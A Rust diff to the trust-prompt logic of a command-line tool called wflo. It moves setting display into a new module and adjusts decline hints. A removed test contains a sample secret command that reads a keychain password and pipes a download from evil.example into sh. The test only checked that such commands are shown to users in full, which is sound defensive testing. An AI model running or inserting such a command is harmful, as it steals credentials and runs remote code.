@@ -11,12 +11,15 @@
 mod asked;
 mod command;
 pub(crate) mod hosts;
+mod list;
+mod own;
 mod record;
 pub(crate) mod shown;
 pub(crate) mod store;
 
 pub(crate) use asked::{Asked, asked, by_hand, host_by_hand, led_to, of_program, of_run, reach_of_run};
 pub(crate) use command::guarded;
+pub(crate) use list::lines;
 
 use wflo_core::error::{Code, Failure};
 
@@ -31,8 +34,6 @@ const NOT_TRUSTED: Code = Code(8016);
 const UNREADABLE: Code = Code(8018);
 /// Accepts whatever is asked for, for one command.
 const VARIABLE: &str = "WFLO_TRUST";
-/// How many columns a setting may have to stand beside what it does; a wider one stands above it.
-const BESIDE: usize = 60;
 /// The most settings that an error names.
 const NAMED: usize = 3;
 
@@ -56,13 +57,10 @@ pub(crate) fn accept(settings: &Settings, asked: &[Asked]) -> Result<(), Command
     // Nobody can know what it does, nor see when it changes.
     if let Some((asked, why)) = asked.iter().find_map(|asked| Some((asked, asked.unreadable()?))) {
         let message = format!("{} cannot be trusted: it names {}", asked.key, plain::line(why));
-        let hint = "make it a file of the project that you can read, or take the command out of wflo.toml";
+        let hint = "write the path of a file that you can read, or take the command out of wflo.toml";
         return Err(CommandError::usage(vec![Failure::new(UNREADABLE, message).with_hint(hint)]));
     }
-    let root = &settings.project.root;
-    let mut accepted = record::read(root);
-    accepted.extend(asked.iter().map(Asked::recorded));
-    record::write(root, accepted).map_err(CommandError::from)
+    record::add(&settings.project.root, asked.iter().map(Asked::recorded)).map_err(CommandError::from)
 }
 
 /// Accepts nothing any more. Whether something was accepted.
@@ -100,7 +98,14 @@ pub(crate) fn settle(
     let Some(mut terminal) = terminal else { return Err(refusal(settings, &missing)) };
     let printer = context.printer;
     printer.aside(format_args!("{} asks for more than its own sandbox:\n", file_of(settings)));
-    for line in lines(&missing, printer.width_beside()) {
+    let (lines, is_whole) = list::few(&missing, printer.width_beside());
+    if !is_whole {
+        printer.aside(format_args!(
+            "  There is more than can be read here: all of it is in {}.\n",
+            file_of(settings)
+        ));
+    }
+    for line in lines {
         printer.aside(line);
     }
     printer.aside("\nYou are asked once, and again when these settings change.");
@@ -108,34 +113,10 @@ pub(crate) fn settle(
     terminal.forget();
     printer.prompt(format_args!("{question} "));
     if !terminal.says_yes() {
-        return Err(declined(settings));
+        return Err(declined(settings, &missing));
     }
     printer.aside("");
     accept(settings, &missing)
-}
-
-/// What is asked for, indented: the settings, each whole, and what they do. Nobody accepts what they were not shown.
-pub(crate) fn lines(asked: &[Asked], columns: Option<usize>) -> Vec<String> {
-    let settings: Vec<String> = asked.iter().map(|asked| plain::line(&asked.setting())).collect();
-    let wide = |setting: &&String| console::measure_text_width(setting) > BESIDE;
-    let beside = settings.iter().filter(|setting| !wide(setting));
-    let width = beside.map(|setting| console::measure_text_width(setting)).max().unwrap_or(0);
-    let mut lines = Vec::new();
-    for (setting, asked) in settings.iter().zip(asked) {
-        if wide(&setting) {
-            // The rest of a setting is further in, so that it cannot look like another one.
-            let parts = plain::wrapped(setting, columns.unwrap_or(usize::MAX).saturating_sub(6).max(20));
-            let indented = parts.iter().enumerate().map(|(at, part)| match at {
-                0 => format!("  {part}"),
-                _ => format!("      {part}"),
-            });
-            lines.extend(indented);
-            lines.push(format!("  {:width$}   {}", "", asked.does));
-        } else {
-            lines.push(format!("  {}   {}", plain::padded(setting, width), asked.does));
-        }
-    }
-    lines
 }
 
 fn file_of(settings: &Settings) -> String {
@@ -143,11 +124,18 @@ fn file_of(settings: &Settings) -> String {
     plain::line(&file.display().to_string())
 }
 
-fn declined(settings: &Settings) -> CommandError {
+fn declined(settings: &Settings, missing: &[Asked]) -> CommandError {
     let message = format!("nothing was run: {} is not trusted", file_of(settings));
-    let failure = Failure::new(NOT_TRUSTED, message)
-        .with_hint("take these settings out of it, or run it again once you trust them");
-    CommandError::usage(vec![failure])
+    let hint = match is_beside(missing) {
+        true => "run it again once you trust it",
+        false => "take these settings out of it, or run it again once you trust them",
+    };
+    CommandError::usage(vec![Failure::new(NOT_TRUSTED, message).with_hint(hint)])
+}
+
+/// Whether all of it is what a run or a program of the project has beside the settings.
+fn is_beside(missing: &[Asked]) -> bool {
+    missing.iter().all(|asked| asked.key.starts_with("run."))
 }
 
 fn refusal(settings: &Settings, missing: &[Asked]) -> CommandError {
@@ -156,8 +144,8 @@ fn refusal(settings: &Settings, missing: &[Asked]) -> CommandError {
         named.push(format!("{} more", missing.len() - NAMED));
     }
     let message = format!("{} is not trusted with {}", file_of(settings), named.join(", "));
-    // What a run or a program of the project has beside the settings is answered where it is asked.
-    let hint = match missing.iter().all(|asked| asked.key.starts_with("run.")) {
+    // That is answered where it is asked.
+    let hint = match is_beside(missing) {
         true => "run it at a terminal to be asked; WFLO_TRUST=1 accepts this for one command",
         false => {
             "look at what they do, and accept them with `wflo trust`; WFLO_TRUST=1 accepts them for one command"
@@ -171,21 +159,20 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_is_accepted_is_shown_to_its_end() {
-        let hidden =
-            "security find-generic-password -s api-key -a me -w; curl -s https://evil.example/x | sh";
-        let text = format!("[secrets.s]\nhosts = [\"a.example\"]\nvalue_command = \"{hidden}\"\n");
-        let node = crate::document::toml::parse("wflo.toml", &text).unwrap();
-        let asked = asked(&node, std::path::Path::new("/project"));
-        let whole = lines(&asked, None);
-        assert!(whole.iter().any(|line| line.contains(hidden)), "{whole:?}");
-        let wrapped = lines(&asked, Some(40));
-        let joined: String = wrapped.iter().map(|line| line.trim_start_matches(' ')).collect();
-        assert!(joined.replace(' ', "").contains(&hidden.replace(' ', "")), "{wrapped:?}");
-        assert!(wrapped.iter().all(|line| console::measure_text_width(line) <= 70), "{wrapped:?}");
-        assert!(wrapped[0].ends_with("gets the secret's value"), "{wrapped:?}");
-        let rest = wrapped.iter().skip(2).take_while(|line| !line.ends_with("every sandbox"));
-        let rest: Vec<_> = rest.collect();
-        assert!(rest.len() > 1 && rest.iter().all(|line| line.starts_with("      ")), "{wrapped:?}");
+    fn a_no_is_told_to_take_out_only_what_is_a_setting() {
+        let folder = tempfile::tempdir().unwrap();
+        let location = crate::settings::Location {
+            project: Some(folder.path().to_owned()),
+            data_dir: None,
+            workflow: None,
+            current: folder.path().to_owned(),
+        };
+        let settings = Settings::load(&location, &crate::settings::Environment::of(&[])).unwrap();
+        let hint = |key: &str| {
+            let error = declined(&settings, &[Asked::new(key, "x", "does")]);
+            error.failures[0].hint.clone().unwrap()
+        };
+        assert!(hint("sandbox.env").contains("take these settings out"));
+        assert!(!hint("run.program").contains("settings"));
     }
 }
